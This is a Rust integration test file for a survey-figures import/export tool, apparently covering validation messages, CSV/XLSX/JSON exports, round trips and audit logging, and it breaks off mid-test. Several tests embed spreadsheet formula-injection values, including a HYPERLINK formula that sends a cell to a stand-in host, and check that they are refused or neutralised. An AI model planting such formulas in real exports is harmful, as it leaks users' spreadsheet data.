//! The figures contract end to end: import of the hand-made fixture, the district summary
//! through the CLI and through HTTP against hand-computed CSVs, every import rule with its
//! exact message and an unchanged database, round trips, XLSX and the JSON API.
use crate::common;
use common::{cli, expected, fixture, stderr, stdout, Engine, TestApp, TestDb};
use std::path::Path;

async fn imported_fixture(engine: Engine) -> TestDb {
    let db = TestDb::new(engine).await;
    let out = cli(&db.url, &["import", fixture("small").to_str().unwrap()]);
    assert!(out.status.success(), "import failed: {}", stderr(&out));
    db
}

/// (file of expected CSV, query string, CLI arguments)
const CASES: [(&str, &str, &[&str]); 5] = [
    ("2024.csv", "period=2024", &["--period", "2024"]),
    ("2024-Q1_P1.csv", "period=2024-Q1&province=P1", &["--period", "2024-Q1", "--province", "P1"]),
    (
        "2024-Q2_FG_P1.csv",
        "period=2024-Q2&model=FG&province=P1",
        &["--period", "2024-Q2", "--model", "FG", "--province", "P1"],
    ),
    ("2024-05.csv", "period=2024-05", &["--period", "2024-05"]),
    ("2023.csv", "period=2023", &["--period", "2023"]),
];

on_both_engines!(district_summary_matches_hand_computed_csv_via_cli, |engine: Engine| async move {
    let db = imported_fixture(engine).await;
    for (file, _, args) in CASES {
        let mut full = vec!["export", "district-summary"];
        full.extend_from_slice(args);
        let out = cli(&db.url, &full);
        assert!(out.status.success(), "{file}: {}", stderr(&out));
        assert_eq!(stdout(&out), expected(file), "{file}");
    }
});

on_both_engines!(district_summary_matches_hand_computed_csv_via_http, |engine: Engine| async move {
    let app = TestApp::spawn_with(engine, false, |db| async move {
        let set = server::sources::read(&fixture("small")).unwrap();
        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
    })
    .await;
    for (file, query, _) in CASES {
        let r = app.get(&format!("/export/district-summary.csv?{query}")).await;
        assert_eq!(r.status(), 200, "{file}");
        assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
        assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
        assert_eq!(r.text().await.unwrap(), expected(file), "{file}");
    }
    // The export page's form sends the format as a parameter, and an empty model.
    let (status, body) = app.get_text("/export/district-summary?period=2024&model=&format=csv").await;
    assert_eq!((status, body), (200, expected("2024.csv")));
    // JSON: the same keys, numbers as numbers, null for empty cells.
    let r = app.get("/export/district-summary.json?period=2024-Q2&model=FG&province=P1").await;
    let json: serde_json::Value = r.json().await.unwrap();
    assert_eq!(
        json,
        serde_json::json!([
            {"district_code": "D1", "district_name": "Như Xuân, \"huyện mẫu\"", "communes": 3, "communes_adopting": 2,
             "adoption_rate": 66.67, "respondents": 240, "satisfied": 236, "satisfaction_rate": 98.33, "ci_low": 95.79, "ci_high": 99.35},
            {"district_code": "D2", "district_name": "Thọ Xuân", "communes": 1, "communes_adopting": 0,
             "adoption_rate": 0.0, "respondents": 0, "satisfied": 0, "satisfaction_rate": null, "ci_low": null, "ci_high": null},
            {"district_code": "D3", "district_name": "Huyện Trống", "communes": 0, "communes_adopting": 0,
             "adoption_rate": null, "respondents": 0, "satisfied": 0, "satisfaction_rate": null, "ci_low": null, "ci_high": null}
        ])
    );
    // The API serves the very same rows.
    let api: serde_json::Value =
        app.get("/api/v1/figures/district-summary?period=2024-Q2&model=FG&province=P1").await.json().await.unwrap();
    assert_eq!(api, json);
    // Bad filters are refused with the field named.
    for (query, field) in [
        ("period=2024-13", "period"),
        ("", "period"),
        ("period=2024&model=XX", "model"),
        ("period=2024&province=D1", "province"),
    ] {
        let r = app.get(&format!("/export/district-summary.csv?{query}")).await;
        assert_eq!(r.status(), 400, "{query}");
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["field"], field, "{query}");
    }
    // A filter is checked with its figure, inside the cached computation, so against the
    // same version of the data: the model a later import adds is accepted at the address
    // refused before.
    let url = "/api/v1/figures/district-summary?period=2024&model=NEW";
    for _ in 0..2 {
        let r = app.get(url).await;
        assert_eq!(r.status(), 400);
        assert_eq!(r.json::<serde_json::Value>().await.unwrap()["field"], "model");
    }
    let out = import_files(&app.database.url, &[("models.csv", "code,name\nNEW,Mô hình mới\n")], &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let r = app.get(url).await;
    assert_eq!(r.status(), 200);
    let rows: serde_json::Value = r.json().await.unwrap();
    assert_eq!((rows[0]["district_code"].as_str(), rows[0]["communes"].as_u64()), (Some("D1"), Some(3)));
    assert_eq!((rows[0]["communes_adopting"].as_u64(), rows[0]["respondents"].as_u64()), (Some(0), Some(0)));
});

on_both_engines!(xlsx_export_holds_the_same_table_with_real_numbers, |engine: Engine| async move {
    use calamine::{Data, Reader};
    let db = imported_fixture(engine).await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("summary.xlsx");
    let out = cli(
        &db.url,
        &["export", "district-summary", "--period", "2024", "--format", "xlsx", "--out", path.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let mut book = calamine::open_workbook_auto(&path).unwrap();
    let range = book.worksheet_range("district_summary").unwrap();
    let rows: Vec<Vec<Data>> = range.rows().map(|r| r.to_vec()).collect();
    let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(header.join(","), app::domain::DISTRICT_SUMMARY_COLUMNS.join(","));
    assert_eq!(rows[1][0], Data::String("D1".into()));
    assert_eq!(rows[1][1], Data::String("Như Xuân, \"huyện mẫu\"".into()));
    assert_eq!(rows[1][2], Data::Float(3.0));
    assert_eq!(rows[1][5], Data::Float(470.0));
    assert_eq!(rows[1][7], Data::Float(93.40));
    assert_eq!(rows[1][8], Data::Float(90.79));
    // D3 has no communes and no ballots: its rates are empty cells.
    assert_eq!(rows[3][0], Data::String("D3".into()));
    assert_eq!(rows[3][4], Data::Empty);
    assert_eq!(rows[3][7], Data::Empty);
    assert_eq!(rows.len(), 5);
});

on_both_engines!(export_then_import_into_empty_round_trips, |engine: Engine| async move {
    let first = imported_fixture(engine).await;
    let dir = tempfile::tempdir().unwrap();
    let out = cli(&first.url, &["export", "tables", "--out", dir.path().to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let second = TestDb::new(engine).await;
    let out = cli(&second.url, &["import", dir.path().to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let again = tempfile::tempdir().unwrap();
    let out = cli(&second.url, &["export", "tables", "--out", again.path().to_str().unwrap()]);
    assert!(out.status.success());
    for name in ["units", "models", "adoptions", "surveys"] {
        let a = std::fs::read_to_string(dir.path().join(format!("{name}.csv"))).unwrap();
        let b = std::fs::read_to_string(again.path().join(format!("{name}.csv"))).unwrap();
        assert_eq!(a, b, "{name}.csv");
    }
    assert_eq!(std::fs::read_to_string(dir.path().join("surveys.csv")).unwrap().lines().count(), 13);
    // And the figures agree.
    let summary = |url: &str| stdout(&cli(url, &["export", "district-summary", "--period", "2024"]));
    assert_eq!(summary(&first.url), summary(&second.url));
});

on_both_engines!(importing_the_same_rows_again_changes_nothing, |engine: Engine| async move {
    let db = imported_fixture(engine).await;
    let out = cli(&db.url, &["import", fixture("small").to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "models: 0 inserted, 0 updated, 2 unchanged\nunits: 0 inserted, 0 updated, 14 unchanged\n\
         adoptions: 0 inserted, 0 updated, 6 unchanged\nsurveys: 0 inserted, 0 updated, 12 unchanged\n"
    );
});

on_both_engines!(an_import_stores_every_column_as_given, |engine: Engine| async move {
    // The five-level breakdown, a quarter and a whole-service row (no model), each exported
    // back exactly as it was imported (PostgreSQL takes an import's rows as one JSON value).
    let db = imported_fixture(engine).await;
    let rows = "C11,FG,2023-03,100,90,50,40,5,3,2\nC12,,2023-Q4,80,60,,,,,\n";
    let header = "unit_code,model_code,period,respondents,satisfied,very_satisfied,fairly_satisfied,neutral,dissatisfied,very_dissatisfied\n";
    let out = import_files(&db.url, &[("surveys.csv", &format!("{header}{rows}"))], &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "surveys: 2 inserted, 0 updated, 0 unchanged\n");
    let dir = tempfile::tempdir().unwrap();
    assert!(cli(&db.url, &["export", "tables", "--out", dir.path().to_str().unwrap()]).status.success());
    let exported = std::fs::read_to_string(dir.path().join("surveys.csv")).unwrap();
    for line in rows.lines() {
        assert!(exported.contains(&format!("\n{line}\n")), "{line} in {exported}");
    }
    assert_eq!(exported.lines().count(), 1 + 12 + 2);
});

/// Writes `files` into a fresh folder and imports it into `db`.
fn import_files(url: &str, files: &[(&str, &str)], extra: &[&str]) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    for (name, body) in files {
        std::fs::write(dir.path().join(name), body).unwrap();
    }
    let mut args = vec!["import", dir.path().to_str().unwrap()];
    args.extend_from_slice(extra);
    cli(url, &args)
}

fn tables_snapshot(url: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    assert!(cli(url, &["export", "tables", "--out", dir.path().to_str().unwrap()]).status.success());
    ["units", "models", "adoptions", "surveys"]
        .iter()
        .map(|n| std::fs::read_to_string(dir.path().join(format!("{n}.csv"))).unwrap())
        .collect()
}

on_both_engines!(every_contract_rule_is_reported_precisely_and_nothing_is_written, |engine: Engine| async move {
    let db = imported_fixture(engine).await;
    let before = tables_snapshot(&db.url);
    let units_h = "code,name,level,parent_code,kind,valid_from,valid_to,successor_code\n";
    let surveys_h = "unit_code,model_code,period,respondents,satisfied\n";
    let adoptions_h = "unit_code,model_code,started_on,ended_on,stage,steered_by\n";
    // (files of the run, the problems it must report)
    type Case = (Vec<(&'static str, String)>, Vec<&'static str>);
    let cases: Vec<Case> = vec![
        (vec![("units.csv", "code,name,level,color\n".into())], vec![
            "units.csv:1: color: unknown column (expected some of: code, name, level, parent_code, kind, valid_from, valid_to, successor_code)",
        ]),
        (vec![("models.csv", "code,category\nX,\n".into())], vec!["models.csv:1: name: required column is missing"]),
        (vec![("units.csv", format!("{units_h}D5,Huyện Năm,district,,,,,\n"))], vec![
            "units.csv:2: parent_code: a value is required unless level is province",
        ]),
        (vec![("units.csv", format!("{units_h}D5,Huyện Năm,huyen,P1,,,,\n"))], vec![
            "units.csv:2: level: must be one of province | district | commune, got `huyen`",
        ]),
        (vec![("units.csv", format!("{units_h}D5,A,district,P1,,,,\nD5,B,district,P1,,,,\n"))], vec![
            "units.csv:3: code: duplicate key D5 (first on line 2)",
        ]),
        (vec![("units.csv", format!("{units_h}C50,Xã,commune,D77,xã,,,\n"))], vec!["units.csv:2: parent_code: unknown unit `D77`"]),
        (vec![("units.csv", format!("{units_h}C50,Xã,commune,D1,xã,2024-02-30,,\n"))], vec![
            "units.csv:2: valid_from: `2024-02-30` is not a date of the form YYYY-MM-DD",
        ]),
        (vec![("adoptions.csv", format!("{adoptions_h}C11,ZZ,2024-01-01,,,\n"))], vec!["adoptions.csv:2: model_code: unknown model `ZZ`"]),
        (vec![("adoptions.csv", format!("{adoptions_h}C11,NW,2024-01-01,,trial,\n"))], vec![
            "adoptions.csv:2: stage: must be one of pilot | scaled, got `trial`",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,0,0\n"))], vec!["surveys.csv:2: respondents: must be at least 1, got 0"]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,10,11\n"))], vec!["surveys.csv:2: satisfied: 11 is more than respondents (10)"]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,10,-1\n"))], vec!["surveys.csv:2: satisfied: must not be negative, got -1"]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024,10,5\n"))], vec![
            "surveys.csv:2: period: a survey period is a month (YYYY-MM) or a quarter (YYYY-Qn), got `2024`",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C13,FG,2024-03,10,5\n"))], vec!["surveys.csv:2: period: unit `C13` is not valid during 2024-03"]),
        (vec![("surveys.csv", format!("{surveys_h}C22,FG,2024-Q2,10,5\n"))], vec!["surveys.csv:2: period: unit `C22` is not valid during 2024-Q2"]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,10,5\nC11,FG,2024-08,10,6\n"))], vec![
            "surveys.csv:3: period: duplicate key (C11, FG, 2024-08) (first on line 2)",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-01,100,97\n"))], vec![
            "surveys.csv:2: period: survey (C11, FG, 2024-01) already exists with other values (import with --update to replace them)",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,ten,5\n"))], vec!["surveys.csv:2: respondents: `ten` is not a whole number"]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,10\n"))], vec!["surveys.csv:2: -: has 4 fields, the header has 5"]),
        // The write rules of the contract: codes, texts, no formula, no overlapping periods.
        (vec![("units.csv", format!("{units_h}C 50,Xã,commune,D1,xã,,,\n"))], vec![
            "units.csv:2: code: ` ` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)",
        ]),
        (vec![("units.csv", format!("{units_h}{},Xã,commune,D1,xã,,,\n", "C".repeat(33)))], vec![
            "units.csv:2: code: a code has at most 32 characters, got 33",
        ]),
        (vec![("units.csv", format!("{units_h}C50,\"=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"Xem\"\")\",commune,D1,xã,,,\n"))], vec![
            "units.csv:2: name: must not begin with `=`: a spreadsheet would run it as a formula",
        ]),
        (vec![("units.csv", format!("{units_h}C50,Xã,commune,D1,@xã,,,\n"))], vec![
            "units.csv:2: kind: must not begin with `@`: a spreadsheet would run it as a formula",
        ]),
        (vec![("models.csv", format!("code,name,description\nQR,Mã QR,{}\n", "x".repeat(5001)))], vec![
            "models.csv:2: description: at most 5000 characters, got 5001",
        ]),
        (vec![("models.csv", format!("code,name,category\nQR,{},\n", "ô".repeat(501)))], vec![
            "models.csv:2: name: at most 500 characters, got 501",
        ]),
        (vec![("models.csv", "code,name,category\nQR,Mã QR,+cat\n".into())], vec![
            "models.csv:2: category: must not begin with `+`: a spreadsheet would run it as a formula",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C11,F;G,2024-08,10,5\n"))], vec![
            "surveys.csv:2: model_code: `;` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C12,FG,2024-07,10,5\nC12,FG,2024-Q3,20,10\n"))], vec![
            "surveys.csv:2: period: 2024-07 overlaps 2024-Q3 of the same unit and model (line 3): its ballots would count twice",
            "surveys.csv:3: period: 2024-Q3 overlaps 2024-07 of the same unit and model (line 2): its ballots would count twice",
        ]),
        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-04,10,5\n"))], vec![
            "surveys.csv:2: period: 2024-04 overlaps 2024-Q2 of the same unit and model (already in the database): its ballots would count twice",
        ]),
        // Several problems in several files are all reported, in file and line order.
        (
            vec![
                ("units.csv", format!("{units_h}C50,Xã Năm Mươi,commune,D1,xã,,,\n")),
                ("surveys.csv", format!("{surveys_h}C50,FG,2024-08,10,5\nC11,NW,2024-13,10,5\nC99,,2024-Q1,5,5\n")),
            ],
            vec![
                "surveys.csv:3: period: month must be 01 to 12, got `2024-13`",
                "surveys.csv:4: unit_code: unknown unit `C99`",
            ],
        ),
    ];
    for (files, want) in cases {
        let files: Vec<(&str, &str)> = files.iter().map(|(n, b)| (*n, b.as_str())).collect();
        let out = import_files(&db.url, &files, &[]);
        assert!(!out.status.success(), "{files:?} was accepted");
        let err = stderr(&out);
        let mut expected_text: String = want.iter().map(|l| format!("{l}\n")).collect();
        expected_text.push_str(&format!("error: {} problem(s); nothing was imported\n", want.len()));
        assert_eq!(err, expected_text, "for {files:?}");
        assert_eq!(tables_snapshot(&db.url), before, "the database changed after {files:?}");
    }
});

/// A survey file larger than the import's chunk (20,000 rows): 14 new communes with a month
/// each from 1901 to 2020, and one with a single month at the start.
fn big_survey_file(tail: &str) -> Vec<(&'static str, String)> {
    let mut units = String::from("code,name,level,parent_code,kind,valid_from,valid_to,successor_code\n");
    let mut surveys = String::from("unit_code,model_code,period,respondents,satisfied\nCX00,,1950-01,10,5\n");
    for u in 0..=14 {
        units.push_str(&format!("CX{u:02},Xã {u},commune,D1,xã,,,\n"));
    }
    for u in 1..=14 {
        for y in 1901..=2020 {
            for m in 1..=12 {
                surveys.push_str(&format!("CX{u:02},,{y}-{m:02},{},{}\n", 20 + m, 10 + m));
            }
        }
    }
    surveys.push_str(tail);
    vec![("units.csv", units), ("surveys.csv", surveys)]
}

on_both_engines!(a_survey_file_larger_than_a_chunk_is_checked_as_a_whole, |engine: Engine| async move {
    let db = imported_fixture(engine).await;
    let before = tables_snapshot(&db.url);
    let as_refs = |files: &[(&'static str, String)]| files.iter().map(|(n, b)| (*n, b.clone())).collect::<Vec<_>>();
    // A duplicate and an overlap of rows that an earlier chunk wrote: lines 20,163 and 20,164
    // name lines 3 and 2, which the import had checked and written a chunk before.
    let bad = as_refs(&big_survey_file("CX01,,1901-01,21,10\nCX00,,1950-Q1,20,10\n"));
    let bad: Vec<(&str, &str)> = bad.iter().map(|(n, b)| (*n, b.as_str())).collect();
    let out = import_files(&db.url, &bad, &[]);
    assert!(!out.status.success());
    assert_eq!(
        stderr(&out),
        "surveys.csv:20163: period: duplicate key (CX01, , 1901-01) (first on line 3)\n\
         surveys.csv:20164: period: 1950-Q1 overlaps 1950-01 of the same unit and model (line 2): its ballots would count twice\n\
         error: 2 problem(s); nothing was imported\n"
    );
    assert_eq!(tables_snapshot(&db.url), before, "a failed run over several chunks wrote nothing");

    let good = big_survey_file("");
    let good: Vec<(&str, &str)> = good.iter().map(|(n, b)| (*n, b.as_str())).collect();
    let out = import_files(&db.url, &good, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "units: 15 inserted, 0 updated, 0 unchanged\nsurveys: 20161 inserted, 0 updated, 0 unchanged\n");
    // Again, replacing: every row is found stored, none is taken for a duplicate of itself.
    let out = import_files(&db.url, &good, &["--update"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "units: 0 inserted, 0 updated, 15 unchanged\nsurveys: 0 inserted, 0 updated, 20161 unchanged\n");
});

on_both_engines!(update_replaces_and_keeps_the_old_value_in_the_audit_log, |engine: Engine| async move {
    use app::ssr::entities::audit_log;
    use sea_orm::EntityTrait;
    let db = imported_fixture(engine).await;
    let surveys = "unit_code,model_code,period,respondents,satisfied\nC11,FG,2024-01,100,97\nC11,FG,2024-08,10,9\n";
    let out = import_files(&db.url, &[("surveys.csv", surveys)], &["--update"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "surveys: 1 inserted, 1 updated, 0 unchanged\n");
    let conn = db.open().await;
    let log = audit_log::Entity::find().all(&conn).await.unwrap();
    let changes: Vec<_> = log.iter().filter(|e| e.entity == "survey_counts").collect();
    assert_eq!(changes.len(), 1, "{log:?}");
    assert_eq!((changes[0].entity_key.as_str(), changes[0].action.as_str()), ("C11/FG/2024-01", "import --update"));
    let json = |v: &Option<String>| serde_json::from_str::<serde_json::Value>(v.as_deref().unwrap()).unwrap();
    let (old, new) = (json(&changes[0].old_value), json(&changes[0].new_value));
    assert_eq!((old["satisfied"].as_i64(), old["respondents"].as_i64(), old["version"].as_i64()), (Some(98), Some(100), Some(1)));
    assert_eq!((new["satisfied"].as_i64(), new["version"].as_i64()), (Some(97), Some(2)));
    // The run itself: one entry with what it did.
    let run = log.iter().find(|e| e.entity == "import" && e.action == "import --update").expect("the run's own entry");
    assert_eq!(json(&run.new_value)["surveys"]["updated"].as_i64(), Some(1));
    let summary = stdout(&cli(&db.url, &["export", "district-summary", "--period", "2024-01", "--province", "P1"]));
    assert!(summary.contains("D1,\"Như Xuân, \"\"huyện mẫu\"\"\",2,2,100.00,100,97,97.00,"), "{summary}");
});

on_both_engines!(xlsx_workbook_imports_like_the_csv_folder, |engine: Engine| async move {
    // Build a workbook with the fixture's four sheets, then import it into an empty database.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("province.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    for name in ["units", "models", "adoptions", "surveys"] {
        let text = std::fs::read_to_string(fixture("small").join(format!("{name}.csv"))).unwrap();
        let sheet = book.add_worksheet();
        sheet.set_name(name).unwrap();
        let mut reader =
            csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for (r, rec) in reader.records().enumerate() {
            for (c, cell) in rec.unwrap().iter().enumerate() {
                // Counts as numbers, as a spreadsheet holds them.
                match cell.parse::<f64>() {
                    Ok(n) if name == "surveys" && r > 0 && c >= 3 => sheet.write_number(r as u32, c as u16, n).unwrap(),
                    _ => sheet.write_string(r as u32, c as u16, cell).unwrap(),
                };
            }
        }
    }
    book.save(&path).unwrap();
    let db = TestDb::new(engine).await;
    let out = cli(&db.url, &["import", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = stdout(&cli(&db.url, &["export", "district-summary", "--period", "2024"]));
    assert_eq!(summary, expected("2024.csv"));
});

/// A used range of A1:XFD1048576 (a value in the sheet's last cell) once made the reader
/// allocate the whole grid, 17 billion cells; it is read cell by cell now and refused with
/// the line to look at. A header as wide as the sheet is refused before any row is read.
#[test]
fn an_xlsx_spanning_the_whole_sheet_is_refused_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}/app.db", dir.path().display());
    let write = |name: &str, far: (u32, u16)| {
        let path = dir.path().join(name);
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.set_name("surveys").unwrap();
        for (c, h) in ["unit_code", "period", "model_code", "respondents", "satisfied"].iter().enumerate() {
            sheet.write_string(0, c as u16, *h).unwrap();
        }
        for (c, v) in ["D1", "2024-01", "", "100", "97"].iter().enumerate() {
            sheet.write_string(1, c as u16, *v).unwrap();
        }
        sheet.write_string(far.0, far.1, "x").unwrap();
        book.save(&path).unwrap();
        path
    };
    let corner = write("corner.xlsx", (1_048_575, 16_383));
    let out = cli(&db, &["import", corner.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("corner.xlsx[surveys]:1048576: -: has values beyond the header's columns"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("nothing was imported"));
    let wide = write("wide.xlsx", (0, 16_383));
    let out = cli(&db, &["import", wide.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).starts_with("error: wide.xlsx[surveys]: line 1: the header has 16384 columns (at most 64)"),
        "{}",
        stderr(&out)
    );
}

on_both_engines!(api_serves_tables_and_figures, |engine: Engine| async move {
    let app = TestApp::spawn_with(engine, false, |db| async move {
        let set = server::sources::read(&fixture("small")).unwrap();
        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
    })
    .await;
    let units: serde_json::Value = app.get("/api/v1/units?level=district&parent=P1").await.json().await.unwrap();
    let codes: Vec<&str> = units.as_array().unwrap().iter().map(|u| u["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["D1", "D2", "D3", "D4"]);
    assert_eq!(units[3]["valid_to"], "2023-12-31");
    let models: serde_json::Value = app.get("/api/v1/models").await.json().await.unwrap();
    assert_eq!(models[1]["name"], "Ngày không viết");
    let adoptions: serde_json::Value = app.get("/api/v1/adoptions?model=NW").await.json().await.unwrap();
    assert_eq!(adoptions.as_array().unwrap().len(), 2);
    assert_eq!(adoptions[0]["stage"], "pilot", "the default stage");
    let communes: serde_json::Value =
        app.get("/api/v1/figures/communes?district=D1&period=2024-Q2&model=FG").await.json().await.unwrap();
    // C11 (200/200), C12 (ended in February: not adopting, no ballots), C13 (40 of which 36).
    assert_eq!(communes.as_array().unwrap().len(), 3);
    assert_eq!(communes[0]["commune_code"], "C11");
    assert_eq!(communes[0]["satisfaction_rate"], 100.0);
    assert_eq!(communes[1]["communes_adopting"], 0);
    assert_eq!(communes[2]["satisfaction_rate"], 90.0);
    let by_model: serde_json::Value =
        app.get("/api/v1/figures/models?period=2024&province=P1").await.json().await.unwrap();
    // FG in 2024 in P1: communes C11, C12, C13, C21, C22 valid; FG at C11, C12, C13, C22.
    assert_eq!(by_model[0]["model_code"], "FG");
    assert_eq!(by_model[0]["communes"], 5);
    assert_eq!(by_model[0]["communes_adopting"], 4);
    assert_eq!(by_model[0]["adoption_rate"], 80.0);
    assert_eq!(by_model[0]["respondents"], 100 + 200 + 50 + 40 + 20);
    assert_eq!(app.get("/api/v1/figures/communes?district=ZZ&period=2024").await.status(), 400);
});

#[test]
fn import_of_a_missing_folder_says_so() {
    let out = cli("sqlite::memory:", &["import", "/no/such/folder"]);
    assert!(!out.status.success());
    assert_eq!(stderr(&out), "error: /no/such/folder: no such file or folder\n");
    let empty = tempfile::tempdir().unwrap();
    let out = cli("sqlite::memory:", &["import", empty.path().to_str().unwrap()]);
    assert!(stderr(&out).contains("holds none of units.csv, models.csv, adoptions.csv, surveys.csv"));
    let _ = Path::new("");
}

on_both_engines!(xlsx_problems_name_the_workbook_sheet_and_row, |engine: Engine| async move {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("book.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("surveys").unwrap();
    for (c, h) in ["unit_code", "period", "respondents", "satisfied"].iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    sheet.write_string(1, 0, "C11").unwrap();
    sheet.write_string(1, 1, "2024-08").unwrap();
    sheet.write_number(1, 2, 10).unwrap();
    sheet.write_number(1, 3, 12).unwrap();
    book.save(&path).unwrap();
    let db = imported_fixture(engine).await;
    let out = cli(&db.url, &["import", path.to_str().unwrap()]);
    assert_eq!(
        stderr(&out),
        "book.xlsx[surveys]:2: satisfied: 12 is more than respondents (10)\nerror: 1 problem(s); nothing was imported\n"
    );
});

on_both_engines!(update_may_move_a_unit_under_a_unit_of_the_same_file, |engine: Engine| async move {
    let db = imported_fixture(engine).await;
    let units = "code,name,level,parent_code,kind,valid_from,valid_to,successor_code\n\
                 D3,Huyện Trống,district,P3,huyện,,,\n\
                 P3,Tỉnh Mới,province,,tỉnh,,,\n\
                 C41,Xã Cũ,commune,D4,xã,,2023-12-31,C11\n";
    let out = import_files(&db.url, &[("units.csv", units)], &["--update"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "units: 1 inserted, 2 updated, 0 unchanged\n");
    let exported = stdout(&cli(&db.url, &["export", "table", "units"]));
    assert!(exported.contains("\nD3,Huyện Trống,district,P3,huyện,,,\n"), "{exported}");
    assert!(exported.contains("\nC41,Xã Cũ,commune,D4,xã,,2023-12-31,C11\n"), "{exported}");
    // The province filter follows the move.
    let p3 = stdout(&cli(
        &db.url,
        &["export", "district-summary", "--period", "2024", "--province", "P3", "--format", "json"],
    ));
    let rows: serde_json::Value = serde_json::from_str(&p3).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1);
    assert_eq!(rows[0]["district_code"], "D3");
});

on_both_engines!(raw_tables_download_over_http_in_the_import_format, |engine: Engine| async move {
    let app = TestApp::spawn_with(engine, false, |db| async move {
        let set = server::sources::read(&fixture("small")).unwrap();
        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
    })
    .await;
    let r = app.get("/export/adoptions.csv").await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.text().await.unwrap(),
        "\u{feff}unit_code,model_code,started_on,ended_on,stage,steered_by\n\
         C11,FG,2021-03-01,,pilot,district\nC12,FG,2021-03-01,2024-02-15,pilot,district\n\
         C13,FG,2024-05-01,,scaled,province\nC21,NW,2022-06-01,,pilot,\nC22,FG,2023-01-01,,scaled,district\n\
         D2,NW,2023-01-01,,scaled,district\n"
    );
    assert_eq!(app.get("/export/nothing.csv").await.status(), 404);
    assert_eq!(app.get("/export/district-summary.pdf?period=2024").await.status(), 404);
});

on_both_engines!(exports_write_stored_formulas_as_text, |engine: Engine| async move {
    use sea_orm::ConnectionTrait;
    // Stored before the rule existed (the import refuses it now): straight into the table.
    let app = TestApp::spawn_with(engine, false, |db| async move {
        let set = server::sources::read(&fixture("small")).unwrap();
        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
        db.execute_unprepared(
            "UPDATE units SET name = '=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")' WHERE code = 'D2'",
        )
        .await
        .unwrap();
        db.execute_unprepared("UPDATE reform_models SET category = '@SUM(A1)' WHERE code = 'NW'").await.unwrap();
        db.execute_unprepared("UPDATE units SET name = '=1+1' WHERE code = 'P2'").await.unwrap();
    })
    .await;
    let (_, csv) = app.get_text("/export/district-summary.csv?period=2024").await;
    assert!(csv.contains("\nD2,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"Xem\"\")\",2,2,"), "{csv}");
    let (_, csv) = app.get_text("/export/units.csv").await;
    assert!(csv.contains("\nD2,\"'=HYPERLINK("), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"));
    let (_, csv) = app.get_text("/export/models.csv").await;
    assert!(csv.contains(",'@SUM(A1),"), "{csv}");
    let (_, csv) = app.get_text("/charts/adoption-by-district.csv?period=2024&province=P1").await;
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    // The fixture has two provinces: without one the chart compares them, by name too.
    let (_, csv) = app.get_text("/charts/adoption-by-district.csv?period=2024").await;
    assert!(csv.contains("\nP2,'=1+1,"), "{csv}");
    // The workbook holds it as a string cell, never a formula.
    use calamine::{Data, Reader};
    let bytes = app.get("/export/district-summary.xlsx?period=2024").await.bytes().await.unwrap();
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
